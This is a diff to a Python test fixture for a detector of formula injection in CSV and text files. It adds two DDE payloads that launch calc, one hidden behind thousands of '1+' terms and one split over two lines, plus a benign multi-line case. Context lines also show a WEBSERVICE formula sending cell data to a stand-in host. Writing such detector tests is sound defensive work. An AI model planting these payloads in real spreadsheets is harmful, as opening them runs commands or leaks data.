@@ -108,6 +108,10 @@ HELD = {
     "one by another program": ("a.txt", b"a\t=msexcel|'\\\\x.example\\a.xls'!A1", Danger.ACTIVE),
     "one by a program nobody knows": ("a.csv", b"a,=SUM(1)+foo|bar!A1\r\n", Danger.ACTIVE),
     "one in wide letters": ("a.csv", "\ufeffa,=cmd|' /C calc'!A0".encode("utf-16-le"), Danger.ACTIVE),
+    "one far from where its cell begins": (
+        "a.csv", b"a,=" + b"1+" * 3000 + b"cmd|' /C calc'!A0", Danger.ACTIVE
+    ),
+    "one over two lines": ("a.csv", b'Ann,"=1+\n cmd|\'/C calc\'!A0"\n', Danger.ACTIVE),
     "one that fetches": ("a.csv", b'a,=IF(1,WEBSERVICE("http://x.example/"&A1))', Danger.ACTIVE),
     "one by the old function": ("a.csv", b'a,=DDE("cmd";"/C calc";"x")', Danger.ACTIVE),
 }  # fmt: skip
@@ -134,6 +138,7 @@ PASSED = {
     ),
     "a table cut by bars": ("a.txt", b"Ann|-5|ok!A\nBob|- none|Great!|x\n|-|cmd |x!y|\n"),
     "a table of ordinary sums": ("a.csv", b'n,"=""00123""",=SUM(A1:A3),=A1*2\n'),
+    "notes over two lines": ("a.csv", b'Ann,"- rang\n- call(evenings)"\nBob,"5","x|y!z"\n'),
     "a list with dashes": ("a.txt", b"- call the school (0113)\n- the link (see below)\n- @ann wrote!\n"),
 }
 
